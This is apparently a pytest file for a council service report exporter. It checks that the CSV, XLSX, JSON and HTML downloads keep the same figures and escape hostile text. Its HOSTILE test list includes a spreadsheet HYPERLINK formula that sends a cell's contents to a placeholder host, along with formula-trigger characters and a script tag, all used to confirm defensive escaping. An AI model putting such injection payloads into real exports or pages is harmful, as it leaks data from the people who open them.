"""Each download format reads back to the same suppressed figures; hostile text stays text."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from typing import Any

import pytest
from openpyxl import load_workbook

from server.reports.definitions import COMMON_RULES, MEASURES, definitions_for
from server.reports.render import FORMATS, render, spreadsheet_safe

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+44 1632 960000",
    "-1+1",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    "<script>alert('team')</script>",
    'Quotes " and ampersands & <b>bold</b>',
]


def summary_with(labels: list[str]) -> dict[str, Any]:
    rows = [
        {"label": label, "cells": [10 + i, "c", 33.3 if i % 2 else "x", None]}
        for i, label in enumerate(labels)
    ]
    tables = [
        {
            "id": "families_and_contacts",
            "title": "Families and meaningful contacts",
            "description": "=1+1 is not a formula here",
            "row_header": "Team",
            "columns": ["Families open", "Meaningful contacts", "Rate", "Nothing"],
            "rows": rows,
            "total": {"label": "Council", "cells": [99, "c", 12.5, None]},
        },
        {
            "id": "contacts_by_month",
            "title": "Meaningful contacts by month",
            "description": "Each month",
            "row_header": "Month",
            "columns": ["Meaningful contacts"],
            "rows": [
                {"label": "September 2026", "cells": [40]},
                {"label": "October 2026", "cells": ["c"]},
            ],
            "total": {"label": "All 2 months", "cells": [45]},
        },
    ]
    return {
        "title": "Council service summary",
        "period": {
            "start": "2026-10-01",
            "end": "2026-11-01",
            "label": "1 October 2026 to 31 October 2026",
        },
        "generated_at": "2026-11-02T09:00:00+00:00",
        "tables": tables,
        "charts": [
            {
                "id": "contacts_over_time",
                "title": "Meaningful contacts over time",
                "kind": "bar",
                "alt_text": "Bar chart <of> contacts & more.",
                "table_id": "contacts_by_month",
                "series": "Meaningful contacts",
                "unit": "contacts",
                "maximum": None,
                "categories": ["September 2026", "October 2026"],
                "values": [40, "c"],
            }
        ],
        "definitions": definitions_for(tables),
    }


def expected_lines(table: dict[str, Any]) -> list[list[Any]]:
    lines = [[table["row_header"], *table["columns"]]]
    lines += [[row["label"], *row["cells"]] for row in table["rows"]]
    lines.append([table["total"]["label"], *table["total"]["cells"]])
    return lines


def as_text(value: Any) -> str:
    return "" if value is None else str(spreadsheet_safe(value))


def test_spreadsheet_escaping_covers_each_trigger() -> None:
    for label in HOSTILE[:6]:
        assert spreadsheet_safe(label) == "'" + label
    assert spreadsheet_safe("Team North") == "Team North"
    assert spreadsheet_safe(-3) == -3  # numbers stay numbers


def test_csv_reads_back_with_the_same_cells_and_no_formulas() -> None:
    summary = summary_with(HOSTILE)
    text = render(summary, "csv").decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text, newline="")))
    for table in summary["tables"]:
        start = lines.index([table["title"]]) + 1
        got = lines[start : start + len(table["rows"]) + 2]
        assert got == [[as_text(cell) for cell in line] for line in expected_lines(table)]
    every_cell = [cell for line in lines for cell in line]
    assert not [cell for cell in every_cell if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_xlsx_has_a_sheet_a_table_with_the_same_cells_and_no_formulas() -> None:
    summary = summary_with(HOSTILE)
    workbook = load_workbook(io.BytesIO(render(summary, "xlsx")))
    assert workbook.sheetnames[0] == "About" and workbook.sheetnames[-1] == "Definitions"
    assert len(workbook.sheetnames) == 2 + len(summary["tables"])
    for table, name in zip(summary["tables"], workbook.sheetnames[1:-1], strict=True):
        sheet = workbook[name]
        assert sheet["A1"].value == table["title"]
        # A bare carriage return may read back as a newline, depending on the XML
        # parser openpyxl finds (lxml keeps it; the standard library does not).
        got = [
            [xml_text(cell) for cell in row] for row in sheet.iter_rows(min_row=4, values_only=True)
        ]
        want = [
            [xml_text(spreadsheet_safe(cell)) for cell in line] for line in expected_lines(table)
        ]
        assert got == want
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula"


def xml_text(value: Any) -> Any:
    return value.replace("\r", "\n") if isinstance(value, str) else value


def test_json_is_the_summary_itself() -> None:
    summary = summary_with(HOSTILE)
    assert json.loads(render(summary, "json")) == summary


class ReportReader(HTMLParser):
    """Collect each table's cells, the text of each element with an id, the charts' image
    elements, the landmarks, and any tag or link a report must not have."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self.table: str | None = None
        self.cell: list[str] | None = None
        self.tags: list[str] = []
        self.images: list[dict[str, str | None]] = []
        self.text_of: dict[str, str] = {}
        self.open_ids: list[tuple[str, int]] = []
        self.stack: list[str] = []
        self.external: list[str] = []
        self.links: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        self.tags.append(tag)
        if tag not in ("meta", "br", "input", "link", "img"):
            self.stack.append(tag)
            if values.get("id"):
                self.open_ids.append((values["id"] or "", len(self.stack)))
                self.text_of[values["id"] or ""] = ""
        if values.get("id"):
            self.ids.append(values["id"] or "")
        for name in ("src", "href"):
            link = values.get(name) or ""
            if link and not link.startswith("#"):
                self.external.append(link)
            elif link:
                self.links.append(link[1:])
        if values.get("role") == "img":
            self.images.append(values)
        if tag == "table":
            self.table = values.get("id")
            assert self.table
            self.tables[self.table] = []
        elif tag == "tr" and self.table:
            self.tables[self.table].append([])
        elif tag in ("td", "th") and self.table:
            self.cell = []

    def handle_endtag(self, tag: str) -> None:
        if self.open_ids and self.open_ids[-1][1] == len(self.stack):
            self.open_ids.pop()
        if self.stack:
            self.stack.pop()
        if tag in ("td", "th") and self.table and self.cell is not None:
            self.tables[self.table][-1].append("".join(self.cell))
            self.cell = None
        elif tag == "table":
            self.table = None

    def handle_data(self, data: str) -> None:
        if self.cell is not None:
            self.cell.append(data)
        for ident, _depth in self.open_ids:
            self.text_of[ident] += data


def read_report(summary: dict[str, Any]) -> tuple[str, ReportReader]:
    page = render(summary, "html").decode("utf-8")
    reader = ReportReader()
    reader.feed(page)
    return page, reader


def shown(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:,.1f}"
    if isinstance(value, int):
        return f"{value:,}"
    return str(value)


def test_html_report_reads_back_with_the_same_cells_and_escaped_text() -> None:
    summary = summary_with(HOSTILE)
    page, reader = read_report(summary)
    for table in summary["tables"]:
        got = reader.tables[f"table-{table['id']}"]
        assert got == [[shown(cell) for cell in line] for line in expected_lines(table)]
    assert "script" not in reader.tags and "img" not in reader.tags
    assert reader.external == []
    assert "<script>" not in page and "<b>bold</b>" not in page
    # Each chart is one image to a screen reader, named and described by its caption.
    [chart] = reader.images
    assert reader.text_of[chart["aria-labelledby"] or ""] == "Meaningful contacts over time"
    assert reader.text_of[chart["aria-describedby"] or ""] == "Bar chart <of> contacts & more."
    # The chart sits with the table holding its figures.
    assert page.index('id="chart-contacts_over_time"') < page.index('id="table-contacts_by_month"')
    assert "@media print" in page
    # Every link inside the report leads somewhere in it.
    assert set(reader.links) <= set(reader.ids)


def test_no_download_names_a_file_of_the_code_or_prints_a_machine_timestamp() -> None:
    summary = summary_with(["North", "South"])
    page, _ = read_report(summary)
    csv_text = render(summary, "csv").decode("utf-8-sig")
    workbook = load_workbook(io.BytesIO(render(summary, "xlsx")))
    cells = " ".join(
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    )
    for text in (page, csv_text, cells):
        assert "docs/" not in text and "metrics.md" not in text and ".py" not in text
        assert "2026-11-02" not in text and "09:00" not in text
    # 9am UTC on 2 November is 9am in London (GMT).
    assert "Produced on 2 November 2026 at 9am." in page
    assert ["Produced", "2 November 2026 at 9am"] in list(csv.reader(io.StringIO(csv_text)))
    assert workbook["About"]["B3"].value == "2 November 2026 at 9am"


def test_the_time_produced_is_london_time_in_summer() -> None:
    summary = summary_with(["North"])
    summary["generated_at"] = "2026-07-01T13:30:00+00:00"
    page, _ = read_report(summary)
    assert "Produced on 1 July 2026 at 2:30pm." in page


def test_the_appendix_defines_each_measure_and_each_section_links_to_its_definition() -> None:
    summary = summary_with(["North"])
    page, reader = read_report(summary)
    appendix = reader.text_of["appendix"]
    assert reader.text_of["appendix-heading"] == "Appendix: what each measure counts"
    for rule in COMMON_RULES:
        assert rule in appendix
    for table in summary["tables"]:
        definition = f"definition-{table['id']}"
        assert reader.text_of[definition] == table["title"]
        assert all(text in appendix for text in MEASURES[table["id"]])
        assert definition in reader.links
        assert (
            f"How this is counted for {table['title']}" in reader.text_of[f"section-{table['id']}"]
        )
    assert page.index('id="appendix"') > page.index('id="table-contacts_by_month"')


def test_a_summary_stored_before_definitions_were_kept_gets_them_in_its_appendix() -> None:
    summary = summary_with(["North"])
    del summary["definitions"]
    summary["definitions_url"] = "docs/metrics.md"
    page, reader = read_report(summary)
    assert "docs/metrics.md" not in page
    assert MEASURES["contacts_by_month"][0] in reader.text_of["appendix"]


def test_the_reports_footer_says_what_it_holds_and_nothing_of_a_device() -> None:
    _, reader = read_report(summary_with(["North"]))
    assert "footer" in reader.tags and "main" in reader.tags
    page = render(summary_with(["North"]), "html").decode()
    footer = page[page.index("<footer") : page.index("</footer>")]
    assert "figures for teams and the whole council only" in footer
    assert "device" not in footer


def test_the_report_stacks_its_tables_on_a_phone() -> None:
    page, _ = read_report(summary_with(["North"]))
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in page
    assert "@media screen and (max-width: 40em)" in page
    # Each figure carries its column's name, shown beside it when the rows stack.
    assert 'data-label="Families open">10</td>' in page


def test_an_unknown_format_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown format"):
        render(summary_with(["North"]), "pdf")
    assert set(FORMATS) == {"csv", "xlsx", "json", "html"}
